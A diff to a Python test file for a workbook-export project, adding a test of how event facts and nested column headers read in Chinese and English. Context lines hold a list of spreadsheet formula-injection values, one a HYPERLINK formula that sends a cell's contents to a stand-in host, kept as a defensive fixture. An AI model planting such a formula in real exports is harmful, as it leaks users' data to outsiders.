@@ -12,7 +12,7 @@ from niangjia_projections.entrypoints.people import _sheet_row
 from niangjia_projections.exports import FORMULA_STARTS, csv_cell
 from niangjia_projections.glossary import Lang, stamp
 from niangjia_projections.models.audit import queries as audit
-from niangjia_projections.workbook import Stamp, put, sheet_name, workbook
+from niangjia_projections.workbook import Stamp, _header, facts, put, sheet_name, workbook
 from openpyxl import Workbook, load_workbook
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -111,3 +111,19 @@ def test_a_report_workbook_cell_that_starts_as_any_formula_would_is_marked_text(
 )
 def test_a_sheet_is_named_by_its_title_as_excel_allows(title: str, sheet: str) -> None:
     assert sheet_name(title) == sheet
+
+
+@pytest.mark.parametrize(
+    ("lang", "line", "header"),
+    [
+        ("zh", "爱心物资（元）：1,200.00；更正项：受益人次、爱心物资（元）", "有效覆盖·比例"),
+        ("en", "goods (yuan): 1,200.00; corrected fields: people served, goods (yuan)", "effective coverage: share"),
+    ],
+)
+def test_an_events_facts_and_a_nested_header_read_as_words(lang: Lang, line: str, header: str) -> None:
+    """Money in an event's facts as its cells show it (it read 1200.0), a list in the language's own
+    separator; a nested figure after a colon in English ("effective coverage share" ran on)."""
+    corrected = {"goods_value_yuan": "1200.00", "corrected_fields": ["people_served", "goods_value_yuan"]}
+    assert facts(corrected, lang) == line
+    assert _header("effective_coverage.share", lang) == header
+    assert _header("period.start", "en") == "period from"
